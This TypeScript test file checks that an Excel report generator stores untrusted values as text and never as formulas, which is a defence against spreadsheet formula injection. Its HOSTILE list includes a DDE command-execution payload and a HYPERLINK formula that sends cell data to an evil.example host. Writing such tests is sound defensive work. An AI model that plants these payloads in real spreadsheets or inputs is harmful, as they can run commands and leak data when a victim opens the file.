/**
 * OWASP formula injection: text from a PDF or a user's correction must stay text — on opening
 * (a shared string, never a <f> formula) and after a user re-enters the cell (the Text number
 * format '@' makes Excel and LibreOffice keep typed input as text) — without altering legitimate
 * values such as '-0042'.
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { cellText } from '../../../src/excel/cell-values.js';
import { buildReportWorkbook } from '../../../src/excel/report.js';
import { TEXT_FIELD_KEYS } from '../../../src/shared/extraction.js';
import { extraction, instrument } from '../../helpers/sample-extractions.js';
import { readXlsxPart } from '../../helpers/xlsx-parts.js';
import { formulaOf, loadWorkbook, sheet } from './workbook-reader.js';

const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-0042',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '-2+3',
  '0042',
];
const OPTIONS = { today: '2026-03-10', dueSoonDays: 30, defaultIntervalMonths: 12 };

function hostileInstrument(value: string) {
  return instrument({
    ...Object.fromEntries(TEXT_FIELD_KEYS.map((key) => [key, value])),
    result: 'Pass',
  });
}

async function hostileReport() {
  const entries = HOSTILE.map((value) => ({
    sourceFile: value,
    extraction: extraction([hostileInstrument(value)], { warnings: [value] }),
    // The same value arriving as a user's correction.
    corrections: { '0': { model: `${value}` } },
  }));
  const buffer = await buildReportWorkbook(entries, OPTIONS);
  return { buffer, workbook: await loadWorkbook(buffer) };
}

/** Every <f> formula in a sheet's XML (entities decoded). */
function formulasIn(xml: string): string[] {
  return [...xml.matchAll(/<f>([^<]*)<\/f>/g)].map((match) =>
    (match[1] ?? '')
      .replace(/&quot;/g, '"')
      .replace(/&apos;/g, "'")
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&amp;/g, '&'),
  );
}

describe('formula injection', () => {
  it('keeps every hostile value as an exact string in a Text-formatted cell', async () => {
    const { workbook } = await hostileReport();
    const register = sheet(workbook, 'Equipment Register');
    HOSTILE.forEach((value, index) => {
      const row = register.getRow(index + 2);
      // Equipment ID … Serial #, Certificate #, Calibration Lab, Source File.
      for (const column of ['A', 'B', 'C', 'D', 'E', 'J', 'K', 'M']) {
        const cell = row.getCell(column);
        expect(cell.type, `${column}${row.number}`).toBe(ExcelJS.ValueType.String);
        expect(cell.value).toBe(cellText(value));
        expect(cell.numFmt).toBe('@');
        expect(cell.formula).toBeUndefined();
      }
    });
  });

  it('changes nothing in a legitimate value (CR only becomes the LF Excel uses)', () => {
    for (const value of HOSTILE.filter((candidate) => !candidate.includes('\r'))) {
      expect(cellText(value)).toBe(value);
    }
    expect(cellText('\r=1+1')).toBe('\n=1+1');
  });

  it('keeps serial -0042 as the text -0042, not the number -42', async () => {
    const { workbook } = await hostileReport();
    const serial = sheet(workbook, 'Equipment Register').getCell('E4');
    expect(serial.value).toBe('-0042');
    expect(typeof serial.value).toBe('string');
  });

  it('writes no formula other than its own', async () => {
    const { buffer } = await hostileReport();
    const expected = [
      /^IF\(ISNUMBER\(G\d+\),G\d+-TODAY\(\),""\)$/,
      /^IF\(ISNUMBER\(H\d+\),IF\(H\d+<0,"Overdue",IF\(H\d+<=30,"Due Soon","Current"\)\),""\)$/,
    ];
    const registerFormulas = formulasIn(readXlsxPart(buffer, 'xl/worksheets/sheet1.xml'));
    expect(registerFormulas).toHaveLength(HOSTILE.length * 2);
    for (const formula of registerFormulas) {
      expect(
        expected.some((pattern) => pattern.test(formula)),
        formula,
      ).toBe(true);
    }
    expect(formulasIn(readXlsxPart(buffer, 'xl/worksheets/sheet2.xml'))).toEqual([]);
    const summaryFormulas = formulasIn(readXlsxPart(buffer, 'xl/worksheets/sheet3.xml'));
    for (const value of ['cmd|', 'HYPERLINK', 'SUM(A1)', '+1+1']) {
      expect(summaryFormulas.join('\n')).not.toContain(value);
    }
  });

  it('stores hostile text as shared strings (never parsed on opening)', async () => {
    const { buffer } = await hostileReport();
    const strings = readXlsxPart(buffer, 'xl/sharedStrings.xml');
    expect(strings).toContain('<t>=cmd|&apos; /C calc&apos;!A0</t>');
    expect(strings).toContain('<t>@SUM(A1)</t>');
    const register = readXlsxPart(buffer, 'xl/worksheets/sheet1.xml');
    for (const match of register.matchAll(/<c r="(A|E|M)\d+"([^>]*)>/g)) {
      if (match[0].includes('r="A1"') || match[0].includes('r="E1"') || match[0].includes('r="M1"'))
        continue;
      expect(match[2]).toContain('t="s"');
    }
  });

  it('treats corrections, warnings and the Details sheet the same way', async () => {
    const { workbook } = await hostileReport();
    const details = sheet(workbook, 'Certificate Details');
    const headers = details.getRow(1).values as unknown[];
    const model = headers.indexOf('Model');
    const corrections = headers.indexOf('Corrections');
    const notes = headers.indexOf('Notes');
    HOSTILE.forEach((value, index) => {
      const row = details.getRow(index + 2);
      for (const column of [1, model]) {
        expect(row.getCell(column).value).toBe(cellText(value));
        expect(row.getCell(column).numFmt).toBe('@');
      }
      expect(row.getCell(corrections).type).toBe(ExcelJS.ValueType.String);
      expect(row.getCell(notes).value).toBe(cellText(value));
    });
    const register = sheet(workbook, 'Equipment Register');
    expect(register.getCell('D2').value).toBe(HOSTILE[0]);
    expect(formulaOf(register.getCell('H2')).formula).toContain('TODAY()');
  });
});
